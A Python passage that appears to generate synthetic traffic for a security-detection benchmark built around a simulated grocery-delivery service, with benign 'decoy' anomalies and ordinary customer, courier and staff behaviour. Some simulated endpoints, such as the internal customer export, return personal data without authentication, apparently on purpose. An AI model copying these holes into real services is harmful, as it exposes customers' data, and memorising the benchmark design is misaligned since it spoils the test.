        return 200, dict(courier_id=rq.courier['id'], zone=rq.courier['id'] % 4, run_id=rq.courier.get('run'))

    def assign(s, c):
        """the dispatcher gives a courier packed orders"""
        o = [x for x in s.orders.values() if x['state'] == 'packed'][:3]
        if not o:
            return None
        s.next_run += s.rng.randint(1, 3)
        c['run'] = str(s.next_run)
        s.runs[c['run']] = dict(id=c['run'], courier=c['id'], stops=[])
        for x in o:
            k = str(int(x['number']) - 6900000)
            x.update(state='out', courier=c['id'])
            s.stops[k] = x
            s.runs[c['run']]['stops'].append(k)
        return s.runs[c['run']]

    @route('GET', '/couriers/runs/{id}.json', auth='courier', host='ops')
    def run(s, rq, i):
        x = s.runs.get(cut(i))
        if not x or x['courier'] != rq.courier['id']:
            return s.not_found(rq)
        return 200, dict(id=x['id'], stops=[dict(id=k, order=s.stops[k]['number'], address=s.stops[k]['address'],
                note=s.stops[k]['note']) for k in x['stops']])

    @route('PATCH', '/couriers/stops/{id}.json', auth='courier', host='ops')
    def stop(s, rq, i):
        o = s.stops.get(cut(i))
        if not o or o.get('courier') != rq.courier['id']:
            return s.not_found(rq)
        o['state'] = {'delivered': 'delivered'}.get(rq.j.get('status'), o['state'])
        return 200, dict(id=cut(i), status=rq.j.get('status'))

    @route('POST', '/couriers/positions.json', auth='courier', host='ops')
    def positions(s, rq):
        return Rs(204)

    # --- staff
    @route('POST', '/staff/sign_in.json', auth='none', host='ops')
    def staff_in(s, rq):
        e = s.staff.get(str(rq.j.get('login')))
        if not e or e['pw'] != rq.j.get('password'):
            return Rs(401, {'error': 'Invalid login or password.'}, lat=.12)
        k = s.rng.randbytes(18).hex()
        s.sess[k] = e
        return Rs(201, dict(login=e['login'], role=e['role']), {'Set-Cookie': f'_korbly_ops={k}; path=/; HttpOnly'}, lat=.12)

    @route('GET', '/staff/orders.json', auth='staff', host='ops')
    def staff_orders(s, rq):
        st = rq.q.get('state', 'placed')
        o = [x for x in s.orders.values() if x['state'] == st][-25:]
        return 200, dict(orders=[dict(number=x['number'], state=st, lines=len(x['lines'])) for x in o], page=rq.q.get('page', '1'), per_page=25)

    @route('GET', '/staff/orders/{id}.json', auth='staff', host='ops')
    def staff_order(s, rq, i):
        return (200, dict(order=s.view(s.orders[cut(i)]))) if cut(i) in s.orders else s.not_found(rq)

    @route('PATCH', '/staff/orders/{id}.json', auth='staff', host='ops')
    def staff_patch(s, rq, i):
        o, st = s.orders.get(cut(i)), (rq.j.get('order') or {}).get('state') if isinstance(rq.j.get('order'), dict) else None
        if not o:
            return s.not_found(rq)
        if st not in ('picking', 'packed') or o['state'] not in ('placed', 'picking'):
            return bad(state='is not allowed')
        o['state'] = st
        return 200, dict(order=dict(number=o['number'], state=st))

    @route('POST', '/staff/orders/{id}/refunds.json', auth='staff', host='ops')
    def refund(s, rq, i):
        if i not in s.orders:
            return s.not_found(rq)
        return 201, dict(refund=dict(id=s.rng.randint(5000, 9999), order=i, amount=rq.j.get('amount')))

    @route('GET', '/staff/customers/{id}.json', auth='staff', host='ops')
    def staff_customer(s, rq, i):
        p = s.person(int(cut(i))) if cut(i).isdigit() and len(i) < 14 else None
        return (200, dict(customer=dict(p, orders=s.cust[p['id']]['orders'][-5:] if p['id'] in s.cust else []))) if p else s.not_found(rq)

    @route('PATCH', '/staff/customers/{id}.json', auth='staff', host='ops')
    def staff_patch_customer(s, rq, i):
        u = s.cust.get(int(cut(i))) if cut(i).isdigit() and len(i) < 14 else None
        c = rq.j.get('customer')
        if not u or not isinstance(c, dict):
            return s.not_found(rq)
        u['balance'] = c.get('credit_balance', u['balance'])
        return 200, dict(customer=s.person(u['id']))

    @route('PATCH', '/staff/products/{id}.json', auth='staff', host='ops')
    def staff_product(s, rq, i):
        p, x = s.products.get(cut(i)), rq.j.get('product')
        if not p:
            return s.not_found(rq)
        if not isinstance(x, dict) or not isinstance(x.get('stock', 0), int):
            return bad(stock='is not a number')
        p['stock'] = x.get('stock', p['stock'])
        return 200, dict(product=dict(id=p['id'], stock=p['stock']))

    @route('GET', '/staff/reports/sales.json', auth='staff', host='ops')
    def sales(s, rq):
        return 200, dict(rows=[[c, s.rng.randint(10, 900), s.rng.randint(100, 90000)] for c in CATS for _ in range(6)])

    # --- warehouse
    @route('GET', '/internal/stock/export.json', auth='none', host='ops')
    def stock_export(s, rq):
        return 200, dict(stock=[[p['id'], p['stock']] for p in s.products.values()])

    @route('GET', '/internal/stock/{id}.json', auth='none', host='ops')
    def stock(s, rq, i):
        p = s.products.get(cut(i))
        return (200, dict(id=p['id'], stock=p['stock'], shelf=p['id'] % 40)) if p else s.not_found(rq)

    @route('POST', '/internal/prices/import.json', auth='none', host='ops')
    def prices(s, rq):
        return 202, dict(imported=len(rq.j.get('prices') or []))

    @route('GET', '/internal/customers/export.json', auth='none', host='ops')
    def customers_export(s, rq):
        k = int(rq.q['page']) if rq.q.get('page', 'x').isdigit() else 1
        return 200, dict(page=k, customers=[s.person(i) for i in list(s.cust)[(k - 1) * 60:k * 60]])

    @route('GET', '/up', auth='none', host='ops')
    def up(s, rq):
        return Rs(200, '<!DOCTYPE html><html><body style="background-color: green"></body></html>', ct='text/html; charset=utf-8', lat=.002)


DECOYS = {
    'D-nat': ('carrier_nat', 'phones of a third of the customers come from five addresses of a carrier'),
    'D-hall': ('shared_nat', 'a student hall: nine customers behind one address'),
    'D-courier': ('courier_network_change', 'couriers post positions and change carrier address every shift, since day 0'),
    'D-desk': ('agents_read_many', 'service desk reads many customers and orders, since day 0'),
    'D-recall': ('approved_mass_read', 'day 7: product recall, the desk opens 95 customers in an afternoon'),
    'D-probe': ('monitor_probe', 'status probe on both hosts'),
    'D-batch': ('nightly_batch', 'warehouse and newsletter jobs from inside every night'),
    'D-stock': ('stocktake', 'day 9: the warehouse job reads ten times as many products as on other nights'),
    'D-crawl': ('legit_crawler', 'search engine reads products and reviews without a token, since day 0'),
    'D-release': ('new_app_version', 'day 7: new app version, user agents change within a day'),
    'D-sale': ('flash_peak', 'day 8: evening offer, most customers come and buy'),
    'D-outage': ('outage_retry_storm', 'day 5: 90 minutes of 503 and retries'),
    'D-keyrot': ('api_key_rotation', 'day 7: a partner changes its key'),
    'D-move': ('partner_moves_network', 'day 10: a partner calls from another cloud'),
    'D-verify': ('partner_lookup', 'a partner verifies members with its key on working days'),
    'D-forget': ('forgetful_user', 'customers mistype or forget their password'),
    'D-roam': ('roaming_user', 'day 6 to 8: a customer travels'),
    'D-family': ('shared_account', 'a couple uses one account on two phones at two addresses, since day 0'),
    'D-widget': ('home_automation', 'a customer polls the own order every hour by a script, since day 0'),
    'D-power': ('heavy_legit_user', 'two caterers fill their baskets twice a day, eight times the median, since day 0'),
    'D-new': ('new_signups', 'new customers register on most days'),
    'D-import': ('contact_import_once', 'new customers import their contacts once'),
    'D-coupon': ('coupon_mistake', 'day 10: newsletter with a code that is valid only an hour later'),
    'D-loyal': ('documented_new_endpoint', 'day 8: a released feature adds the loyalty page'),
    'D-old': ('old_client', 'three customers keep an old app on /api/v1/customers/{id}/ since day 0'),
    'D-onboard': ('new_staff', 'day 6: two couriers and a clerk start'),
}
OLD = ('Korbly/5.3.1 (Android 14; SM-A546B) okhttp/4.12.0', 'Korbly/5.3.1 (iPhone14,5; iOS 17.5.1; Scale/3.00)')
NEW = ('Korbly/5.4.0 (Android 14; SM-A546B) okhttp/4.12.0', 'Korbly/5.4.0 (iPhone14,5; iOS 17.5.1; Scale/3.00)')


class Town:
    """Ordinary life: customers, couriers, staff, partners, jobs."""

    def __init__(w, S, app):
        w.S, w.app, w.r, w.st = S, app, S.rng, S.start
        for k, (kind, text) in DECOYS.items():
            S.decoy(k, kind, text)
        w.nat = [f'100.96.{i}.14' for i in range(3, 8)]

    def call(w, cl, m, path, js=None, **k):
        return w.S.call(cl, m, path, js=js, **k)

    # --- signing in
    def login(w, cl, u, pw=None, **k):
        now = w.S.now
        web = cl.web
        for h in ('Authorization', 'Cookie', 'X-CSRFToken'):
            cl.h.pop(h, None)
        rs = w.call(cl, 'POST', '/api/v3/session/' if web else '/api/v3/auth/token/', dict(email=u['email'], password=pw or u['mem']), ident=str(u['id']), **k)
        if rs.st != 200:
            return rs.st
        if web:
            sid, csrf = re.findall(r'(?:sessionid|csrftoken)=(\w+)', rs.h['Set-Cookie'])
            cl.h.update({'Cookie': f'sessionid={sid}; csrftoken={csrf}', 'X-CSRFToken': csrf})
            cl.exp, cl.refresh = now + SESSION, None
        else:
            cl.h['Authorization'] = 'Bearer ' + rs.body['access']
            cl.exp, cl.refresh, cl.rexp = now + ACCESS, rs.body['refresh'], now + REFRESH
        return 200

    def client(w, ip, ua, u, dc=None, ep=None):
        web = 'Mozilla' in ua
        cl = Client(ip, ua, str(u['id']) if u else None, dc=dc, ep=ep)
        cl.web, cl.exp, cl.refresh, cl.rexp = web, 0, None, 0
        if web:
            cl.h.update({'Accept-Language': 'de-AT,de;q=0.9', 'Origin': 'https://www.korbly.example', 'Referer': 'https://www.korbly.example/'})
        return cl

    def renew(w, cl, u):
        """the app finds its token expired, often by an answer 401, and renews it"""
        if w.r.random() < .5:
            w.call(cl, 'GET', f'/api/v3/customers/{u["id"]}/')
            yield .05
        cl.h.pop('Authorization', None)
        rs = w.call(cl, 'POST', '/api/v3/auth/token/refresh/', dict(refresh=cl.refresh), ident=str(u['id']))
        if rs.st == 200:
            cl.h['Authorization'], cl.exp = 'Bearer ' + rs.body['access'], w.S.now + ACCESS

    def forgotten(w, cl, u):
        w.call(cl, 'POST', '/api/v3/auth/password/reset/', dict(email=u['email']), dc='D-forget')
        yield w.r.uniform(40, 200)
        u['mem'] = f'{w.r.choice(WORDS)}.{w.r.randint(1000, 99999)}'
        w.call(cl, 'POST', '/api/v3/auth/password/reset/confirm/', dict(email=u['email'], token=u.get('reset'), new_password=u['mem']), dc='D-forget')
        yield 5

    def ensure(w, cl, u):
        if w.S.now < cl.exp - 300:
            return
        if cl.refresh and w.S.now < cl.rexp:
            yield from w.renew(cl, u)
            if w.S.now < cl.exp:
                return
        for _ in range(w.r.randint(2, 5) if u.get('forget') else int(w.r.random() < .07)):
            w.login(cl, u, u['mem'][:-1], dc='D-forget')
            yield w.r.uniform(4, 20)
        if w.r.random() < .08:
            yield from w.forgotten(cl, u)
        st = 0
        for k in range(5):
            st = w.login(cl, u, dc='D-outage' if st == 503 else None)
            if st == 200:
                return
            yield 2 ** k + 3
            if k == 2 and st != 503:
                yield from w.forgotten(cl, u)

    # --- a visit
    def visit(w, cl, u, buy=.42):
        yield from w.ensure(cl, u)
        if w.S.now > cl.exp:
            return
        ok = yield from w.arrive(cl, u)
        if not ok:
            return
        yield from w.browse(cl, u)
        x = w.r.random()
        if x < buy:
            yield from w.fill(cl, u)
            yield from w.checkout(cl, u)
        elif x < .75:
            yield from w.look_back(cl, u)
        elif x < .9:
            yield from w.settings(cl, u)
        if w.S.now > w.st + 8 * DAY and w.r.random() < .3:
            yield 3
            w.call(cl, 'GET', f'/api/v3/customers/{u["id"]}/loyalty/', dc='D-loyal')
        if w.r.random() < (.15 if cl.web else .04):
            yield 4
            w.leave(cl)

    def leave(w, cl):
        if cl.web:
            w.call(cl, 'DELETE', '/api/v3/session/')
        else:
            w.call(cl, 'POST', '/api/v3/auth/logout/', dict(refresh=cl.refresh))
        cl.exp, cl.refresh = 0, None

    def arrive(w, cl, u):
        """front page; during the outage the client tries again"""
        path = f'/api/v1/customers/{u["id"]}/' if u.get('old') else f'/api/v3/products/?category={w.r.choice(CATS)}'
        rs = w.call(cl, 'GET', path, dc='D-old' if u.get('old') else None)
        for k in range(9):
            if rs.st != 503:
                break
            yield 2 ** min(k, 5) * w.r.uniform(.8, 1.2)
            rs = w.call(cl, 'GET', path, dc='D-outage')
        if rs.st == 401:
            cl.exp = 0
        if w.r.random() < .25:
            w.call(cl, 'GET', f'/api/v3/customers/{u["id"]}/')
        return rs.st == 200

    def browse(w, cl, u):
        r = w.r
        for _ in range(r.randint(1, 3)):
            yield r.lognormvariate(2.1, .7)
            x = r.random()
            if x < .35:
                w.call(cl, 'GET', '/api/v3/search/?' + urlencode({'q': r.choice(QUERIES)}))
            elif x < .45:
                yield from w.inspiration(cl)
            elif x < .62:
                w.call(cl, 'GET', f'/api/v3/products/?category={r.choice(CATS)}&page={r.choice([1, 1, 2, 2, 3, 4])}')
            else:
                yield from w.product(cl, r.choice(list(w.app.products)))

    def inspiration(w, cl):
        """looks at the lists of other shoppers"""
        for _ in range(w.r.randint(1, 4)):
            w.call(cl, 'GET', f'/api/v3/shoppers/{w.r.choice(list(w.app.handles))}/')
            yield w.r.uniform(3, 25)

    def product(w, cl, p):
        r = w.r
        w.call(cl, 'GET', f'/api/v3/products/{p}/')
        x = r.random()
        yield r.uniform(1, 9)
        if x < .25:
            rs = w.call(cl, 'GET', f'/api/v3/products/{p}/reviews/')
            if rs.st == 200 and r.random() < .5:
                yield r.uniform(2, 12)
                v = r.choice(rs.body['results'])
                w.call(cl, 'GET', f'/api/v3/reviews/{v["id"]}/')
                if r.random() < .6:
                    yield r.uniform(2, 9)
                    w.call(cl, 'GET', f'/api/v3/shoppers/{v["author"]}/')
        elif x < .38:
            w.call(cl, 'GET', f'/api/v3/products/{p}/price-history/?limit={r.choice([30, 30, 90])}')

    def fill(w, cl, u, n=None):
        r, g = w.r, w.call
        if u.get('basket') not in w.app.baskets:
            rs = g(cl, 'POST', '/api/v3/baskets/', {})
            u['basket'] = rs.body['id'] if rs.st == 201 else None
        if not u['basket']:
            return
        b = f'/api/v3/baskets/{u["basket"]}/'
        for _ in range(n or r.randint(1, 5)):
            yield r.lognormvariate(2, .8)
            rs = g(cl, 'POST', b + 'items/',
                    dict(product=int(r.choice(list(w.app.products))), quantity=r.choice([1, 1, 1, 2, 3, 6]) if r.random() > .01 else 0))
            if rs.st == 201 and r.random() < .15:
                yield r.uniform(1, 6)
                g(cl, 'PATCH', f'{b}items/{rs.body["id"]}/', dict(quantity=r.randint(1, 5)))
            elif rs.st == 201 and r.random() < .08:
                yield r.uniform(1, 6)
                g(cl, 'DELETE', f'{b}items/{rs.body["id"]}/')
        g(cl, 'GET', b)

    def checkout(w, cl, u):
        r, g = w.r, w.call
        if u.get('basket') not in w.app.baskets or r.random() < .12:
            return
        c, b = f'/api/v3/customers/{u["id"]}/', f'/api/v3/baskets/{u["basket"]}/'
        yield r.uniform(3, 15)
        if r.random() < .18:
            g(cl, 'POST', b + 'coupon/', dict(code=r.choice(['WILLKOMMEN10', 'FREILIEFERN', 'OMA5', 'OMA 5', 'WILKOMMEN10'])))
            yield r.uniform(2, 9)
        if r.random() < .12:
            a = dict(line1=f'{r.choice(STREETS)} {r.choice(["", str(r.randint(1, 90)), "12/3/7", "4a"])}'.strip(),
                    postcode=r.choice(['1020', '1030', '1050', '11000']))
            if g(cl, 'POST', '/api/v3/addresses/validate/', a).st == 200:
                yield 3
                g(cl, 'POST', c + 'addresses/', a)
            yield 4
        elif r.random() < .4:
            g(cl, 'GET', c + 'addresses/')
        day = time.strftime('%Y-%m-%d', time.gmtime(w.S.now + DAY))
        g(cl, 'GET', f'/api/v3/delivery-slots/?postcode={u["addr"][0]["postcode"][:4]}&date={day}')
        yield r.uniform(4, 25)
        rs = g(cl, 'POST', c + 'orders/',
                dict(basket=u['basket'], slot=f'{day}-{r.choice([8, 10, 12, 14, 16, 18]):02}', payment=r.choice(['card', 'eps', 'paypal'])))
        if rs.st == 201:
            w.S.spawn(w.S.now + r.uniform(1, 7) * HOUR, w.follow(cl, u, rs.body['number']))
            if r.random() < .15:
                yield r.uniform(20, 90)
                g(cl, 'PATCH', f'{c}orders/{rs.body["number"]}/',
                        dict(note=r.choice(['Bitte läuten', 'Tür 4, 2. Stock', "bei O'Neill abgeben", 'Code #1453'])))
            elif r.random() < .05:
                yield r.uniform(60, 900)
                g(cl, 'POST', f'{c}orders/{rs.body["number"]}/cancel/', {})

    def follow(w, cl, u, n):
        """the customer looks where the delivery is"""
        yield from w.ensure(cl, u)
        for _ in range(w.r.randint(0, 4)):
            if w.S.now > cl.exp:
                return
            w.call(cl, 'GET', f'/api/v3/customers/{u["id"]}/orders/{n}/tracking/')
            yield w.r.choice([60, 60, 240, 900])

    def look_back(w, cl, u):
        r = w.r
        c = f'/api/v3/customers/{u["id"]}/orders/'
        yield r.uniform(1, 6)
        rs = w.call(cl, 'GET', c)
        if rs.st == 200 and rs.body['next'] and r.random() < .4:
            yield r.uniform(2, 9)
            w.call(cl, 'GET', rs.body['next'].split(API)[1])
        if not u['orders']:
            return
        yield r.uniform(2, 9)
        n = r.choice(u['orders'][-6:])
        w.call(cl, 'GET', f'{c}{n}/')
        yield r.uniform(2, 9)
        x = r.random()
        if x < .3:
            w.call(cl, 'GET', f'{c}{n}/receipt.pdf')
        elif x < .5:
            p = r.choice(w.app.orders[n]['lines'])['product']
            w.call(cl, 'POST', f'/api/v3/products/{p}/reviews/',
                    dict(stars=r.randint(2, 5), text=r.choice(["Super! Gern wieder <3", 'ok', "war schon 'weich'; schade", 'zu klein & teuer'])))

    def settings(w, cl, u):
        r = w.r
        c = f'/api/v3/customers/{u["id"]}/'
        yield r.uniform(2, 9)
        x = r.random()
        if x < .35:
            w.call(cl, 'PATCH', c, dict(phone=r.choice([u['phone'], u['phone'], '0664-x']), newsletter=r.random() < .5))
        elif x < .55:
            w.call(cl, 'POST', c + 'lists/import/',
                    dict(url=f'https://{r.choice(["rezepte", "kochbar", "chefkoch"])}.example/rezept/{r.choice(GOODS).lower()}-{r.choice(WORDS)}'))
        elif x < .75:
            w.call(cl, 'GET', c + 'addresses/')
            yield 5
            w.call(cl, 'PATCH', f'{c}addresses/{u["addr"][0]["id"]}/', dict(hint=r.choice(['Hof links', '2. Stock', ''])))
        elif x < .8:
            u['mem'] = f'{r.choice(WORDS)}_{r.randint(1000, 99999)}'
            if w.call(cl, 'PUT', c + 'password/', dict(old_password=u['pw'], new_password=u['mem'])).st != 200:
                u['mem'] = u['pw']
        else:
            w.call(cl, 'GET', f'/api/v3/shoppers/{r.choice(list(w.app.handles))}/')

    # --- who there is
    def population(w):
        r, app = w.r, w.app
        ids = sorted(r.sample([i for i in range(10200, 14800) if app.lapsed(i)], 158))
        r.shuffle(ids)
        w.cust = [app.customer(i) for i in ids]
        for k in range(10):
            w.courier_record(k)
        for _ in range(420):
            app.order(r.choice(w.cust), w.st - r.uniform(1, 60) * DAY, app.lines(r.randint(2, 6)), 'delivered')
        for i, u in enumerate(w.cust):
            w.settle(i, u)
        w.special()

    def courier_record(w, k):
        r = w.r
        n = f'{r.choice(FIRST)} {r.choice(LAST)}'.title()
        hr = dict(phone=f'+43676{r.randint(10**6, 10**7 - 1)}', email=n.lower().replace(' ', '.') + '@kurier.example',
                birth_date=f'19{r.randint(70, 99)}-0{r.randint(1, 9)}-1{r.randint(0, 9)}', iban=f'AT{r.randint(10, 99)}{r.randint(10**15, 10**16 - 1)}',
                home_address=f'{r.choice(STREETS)} {r.randint(1, 90)}, {r.choice([1100, 1160, 1210])} Wien')
        w.app.couriers[301 + k] = dict(id=301 + k, name=n, pin=f'{r.randint(0, 9999):04}', vehicle=r.choice(['Rad', 'Lastenrad', 'E-Van']), hr=hr)

    def address_of(w, i, web):
        if i < 56 and not web:
            return w.nat[i // 3 % 5], 'D-nat'
        if 56 <= i < 65:
            return '193.83.61.9', 'D-hall'
        if i % 11 == 4:
            return f'2001:db8:{0x4100 + i:x}:7::{i * 19 % 4000 + 2:x}', None
        return f'{[77, 84, 91, 178, 213][i % 5]}.{116 + i % 9}.{i * 5 % 250}.{i * 13 % 250 + 1}', None

    def settle(w, i, u):
        web = i % 5 in (1, 3)
        ip, dc = w.address_of(i, web)
        u['i'], u['home'] = i, ip
        u['forget'], u['old'] = i in (74, 99), i in (82, 85, 90)
        u['cl'] = w.client(ip, WEB[i % 4] if web else OLD[i % 2], u, dc)
        rate = w.r.choice([.08, .15, .25, .35, .5])
        if u['old'] or i in (70, 101) or 120 <= i <= 138:
            rate = 1.3 if i == 70 else .45 if i >= 120 else .9
        grows = i % 6 == 0
        for t in w.S.human_starts(rate * (1.6 if grows else 1), peaks=((8, 1.5), (12.5, 1.5), (18, 2), (21, 1)), weekend=1.25):
            if not grows or w.r.random() < .25 + .75 * (t - w.st) / (w.S.days * DAY):
                w.S.spawn(t, w.one(u, t))

    def one(w, u, t):
        i, cl = u['i'], u['cl']
        if not cl.web and not u['old'] and t > w.st + 7 * DAY + (i * 577 % 800) * 100:
            cl.ua = NEW[i % 2]
            cl.dc = cl.dc or 'D-release'
        if i == 101:
            cl.ip, cl.dc = ('151.43.90.17', 'D-roam') if 6 < (t - w.st) / DAY < 8.5 else (u['home'], None)
        if i == 70:
            cl.dc = 'D-family'
            u['turn'] = not u.get('turn')
            if u['turn']:
                cl = u.setdefault('cl2', w.client('84.119.20.201', OLD[1], u, 'D-family'))
        yield from w.visit(cl, u)

    def special(w):
        S, r = w.S, w.r
        for k, u in enumerate(w.cust[108:110]):
            u['cl'].dc = 'D-power'
            for d in range(S.days):
                for h in (8, 15):
                    if r.random() < .75:
                        S.spawn(S.local(d, h) + r.random() * 2500, w.caterer(u))
        S.spawn(w.st + 900, w.widget(w.cust[112]))
        for u in r.sample(w.cust, 78):
            S.spawn(S.local(8, 17) + r.expovariate(1 / 3600), w.sale(u))
        for u in r.sample(w.cust[:120], 34):
            S.spawn(S.local(10, 9) + r.uniform(0, 1500), w.newsletter(u))
        for u in r.sample(w.cust, 14):
            S.spawn(w.app.down[0][0] + r.random() * 80 * MIN, w.visit(u['cl'], u))
        for d in range(S.days):
            for _ in range(r.choice([0, 1, 1, 2])):
                S.spawn(S.local(d, r.gauss(16, 3)), w.newcomer(len(w.app.cust)))

    def caterer(w, u):
        yield from w.ensure(u['cl'], u)
        yield from w.browse(u['cl'], u)
        yield from w.fill(u['cl'], u, w.r.randint(4, 8))
        if w.r.random() < .5:
            yield from w.checkout(u['cl'], u)

    def widget(w, u):
        cl = w.client(u['home'], 'HomeAssistant/2026.5 aiohttp/3.9', u, 'D-widget')
        while True:
            yield from w.ensure(cl, u)
            if u['orders']:
                w.call(cl, 'GET', f'/api/v3/customers/{u["id"]}/orders/{u["orders"][-1]}/tracking/')
            yield HOUR + w.r.uniform(-4, 4)

    def sale(w, u):
        keep, u['cl'].dc = u['cl'].dc, 'D-sale'
        for _ in range(w.r.randint(1, 2)):
            yield from w.visit(u['cl'], u, .65)
            yield w.r.uniform(60, 900)
        u['cl'].dc = keep

    def newsletter(w, u):
        """the code of the newsletter is valid from ten o'clock"""
        cl, r = u['cl'], w.r
        yield from w.ensure(cl, u)
        yield from w.fill(cl, u, 2)
        for _ in range(r.randint(1, 3)):
            if not u.get('basket') or w.S.now > cl.exp:
                return
            w.call(cl, 'POST', f'/api/v3/baskets/{u["basket"]}/coupon/', dict(code=r.choice(['SOMMER26', 'SOMMER26', 'SOMMER 26', 'Sommer26'])), dc='D-coupon')
            yield r.uniform(8, 60)
        yield r.uniform(3600, 9000)
        if w.S.now < cl.exp and u.get('basket') in w.app.baskets:
            w.call(cl, 'POST', f'/api/v3/baskets/{u["basket"]}/coupon/', dict(code='SOMMER26'), dc='D-coupon')
            yield from w.checkout(cl, u)

    def newcomer(w, k):
        r, S = w.r, w.S
        ip = f'{r.choice([62, 80, 188])}.{r.randint(40, 47)}.{r.randint(1, 250)}.{r.randint(1, 250)}'
        web = r.random() < .4
        cl = w.client(ip, r.choice(WEB) if web else (NEW if S.now > w.st + 7 * DAY else OLD)[k % 2], None, 'D-new')
        js = dict(email=f'{r.choice(FIRST)}{r.randint(100, 9999)}@posteo.example', password=f'{r.choice(WORDS)}{r.choice(["", r.randint(100, 9999)])}',
                newsletter=True)
        w.call(cl, 'GET', f'/api/v3/products/?category={r.choice(CATS)}')
        yield r.uniform(30, 200)
        rs = w.call(cl, 'POST', '/api/v3/customers/', js)
        while rs.st == 422:
            yield r.uniform(5, 20)
            js['password'] += str(r.randint(100, 999))
            rs = w.call(cl, 'POST', '/api/v3/customers/', js)
        if rs.st != 201:
            return
        u = w.app.cust[rs.body['id']]
        u['cl'], u['home'], u['i'], u['old'], cl.ident = cl, ip, 4, False, str(u['id'])
        yield from w.visit(cl, u, .6)
        if r.random() < .8:
            yield from w.ensure(cl, u)
            ph = [r.choice(w.cust)['phone'] for _ in range(2)]
            ph += [f'+43{r.choice([650, 660, 664, 676])}{r.randint(10**6, 10**7 - 1)}' for _ in range(r.randint(25, 80))]
            w.call(cl, 'POST', f'/api/v3/customers/{u["id"]}/friends/import/', dict(phones=ph), dc='D-import')
        while True:
            yield r.expovariate(1 / (3 * DAY))
            yield from w.visit(cl, u)

    # --- staff and couriers
    def workers(w):
        S, r = w.S, w.r
        for k, c in enumerate(w.app.couriers.values()):
            c['cl'] = Client('178.115.2.9', 'KorblyKurier/2.8 (Android 13)', f'courier:{c["id"]}', dc='D-onboard' if k >= 8 else 'D-courier',
                    headers={'Host': OPS})
            for d in range(6 if k >= 8 else 0, S.days):
                if (d * 3 + k * 2) % 7 < 4:
                    S.spawn(S.local(d, [8.5, 15][k % 2]) + r.random() * 1200, w.courier(c))
        for k in range(11):
            n = f'{FIRST[k * 4]}.{LAST[k * 2][0]}'
            e = w.app.staff[n] = dict(login=n, pw=f'{r.choice(WORDS)}#{r.randint(10, 99)}', role='desk' if k in (2, 6, 9) else 'clerk')
            ip = f'10.48.70.{k + 21}' if e['role'] == 'desk' else ['80.110.44.6', '80.110.90.6'][k % 2]
            e['cl'] = Client(ip, WEB[k % 3], f'staff:{n}', dc='D-desk' if e['role'] == 'desk' else 'D-onboard' if k == 10 else None, headers={'Host': OPS})
            for d in range(6 if k == 10 else 0, S.days):
                if (d + k) % 7 < 5:
                    S.spawn(S.local(d, [7, 13][k % 2]) + r.random() * 900, w.work(e, 7 * HOUR))
        S.spawn(S.local(7, 13.5), w.recall(w.app.staff[f'{FIRST[8]}.{LAST[4][0]}']))

    def staff_login(w, e):
        if w.r.random() < .08:
            w.call(e['cl'], 'POST', '/staff/sign_in.json', dict(login=e['login'], password=e['pw'][:-1]), ident=e['cl'].ident)
            yield 6
        for k in range(6):
            e['cl'].h.pop('Cookie', None)
            rs = w.call(e['cl'], 'POST', '/staff/sign_in.json', dict(login=e['login'], password=e['pw']), ident=e['cl'].ident)
            if rs.st == 201:
                e['cl'].h['Cookie'] = rs.h['Set-Cookie'].split(';')[0]
                return
            yield 20

    def work(w, e, length):
        end = w.S.now + length
        yield from w.staff_login(e)
        while w.S.now < end:
            if e['role'] == 'desk':
                yield from w.desk(e['cl'])
            else:
                yield from w.clerk(e['cl'])

    def clerk(w, cl):
        r = w.r
        rs = w.call(cl, 'GET', '/staff/orders.json?state=placed&page=1')
        yield r.uniform(5, 30)
        todo = rs.body['orders'] if rs.st == 200 else []
        if todo:
            n = todo[0]['number']
            w.call(cl, 'GET', f'/staff/orders/{n}.json')
            w.call(cl, 'PATCH', f'/staff/orders/{n}.json', dict(order=dict(state='picking')))
            yield r.uniform(300, 900)
            w.call(cl, 'PATCH', f'/staff/orders/{n}.json', dict(order=dict(state='packed')))
        for _ in range(r.randint(0, 2)):
            yield r.uniform(20, 120)
            w.call(cl, 'PATCH', f'/staff/products/{r.choice(list(w.app.products))}.json', dict(product=dict(stock=r.randint(0, 90))))
        if r.random() < .03:
            w.call(cl, 'GET', '/staff/reports/sales.json')
        yield r.expovariate(1 / 3900)

    def desk(w, cl):
        r = w.r
        u = r.choice(w.cust)
        w.call(cl, 'GET', f'/staff/customers/{u["id"]}.json')
        yield r.uniform(10, 60)
        for n in u['orders'][-r.randint(1, 2):]:
            w.call(cl, 'GET', f'/staff/orders/{n}.json')
            yield r.uniform(20, 120)
        x = r.random()
        if x < .2 and u['orders']:
            w.call(cl, 'POST', f'/staff/orders/{u["orders"][-1]}/refunds.json',
                    dict(amount=r.randint(100, 2500), reason=r.choice(['fehlt', "customer's claim", 'verdorben'])))
        elif x < .28:
            w.call(cl, 'PATCH', f'/staff/customers/{u["id"]}.json', dict(customer=dict(credit_balance=r.randint(1, 20) * 100)))
        yield r.expovariate(1 / 3100)

    def recall(w, e):
        if 'Cookie' not in e['cl'].h:
            yield from w.staff_login(e)
        for u in w.r.sample(w.cust, 95):
            w.call(e['cl'], 'GET', f'/staff/customers/{u["id"]}.json', dc='D-recall')
            yield w.r.uniform(20, 140)

    def courier(w, c):
        cl, r = c['cl'], w.r
        cl.ip = f'178.115.{r.randint(1, 4)}.{r.randint(2, 60)}'
        cl.h.pop('Authorization', None)
        for k in range(6):
            rs = w.call(cl, 'POST', '/couriers/sign_in.json', dict(phone=c['hr']['phone'], pin=c['pin'] if r.random() > .04 else '0000'), ident=cl.ident)
            if rs.st == 201:
                break
            yield r.uniform(5, 40)
        else:
            return
        cl.h['Authorization'] = 'Token ' + rs.body['token']
        w.call(cl, 'GET', '/couriers/shift.json')
        end = w.S.now + r.uniform(4.5, 6) * HOUR
        while w.S.now < end:
            yield from w.run(c, cl)

    def run(w, c, cl):
        r = w.r
        run = w.app.assign(c)
        if run:
            w.call(cl, 'GET', f'/couriers/runs/{run["id"]}.json')
        for k in run['stops'] if run else []:
            yield r.uniform(60, 500)
            w.call(cl, 'PATCH', f'/couriers/stops/{k}.json', dict(status='en_route'))
            yield r.uniform(300, 1200)
            w.position(cl)
            yield r.uniform(30, 300)
            w.call(cl, 'PATCH', f'/couriers/stops/{k}.json', dict(status='delivered', signature=r.random() < .3))
        yield r.uniform(1200, 2200)
        w.position(cl)

    def position(w, cl):
        r = w.r
        w.call(cl, 'POST', '/couriers/positions.json',
                dict(positions=[dict(lat=round(48.2 + r.random() / 10, 5), lon=round(16.3 + r.random() / 10, 5),
                t=int(w.S.now) - 60 * k) for k in range(r.randint(2, 7))]))

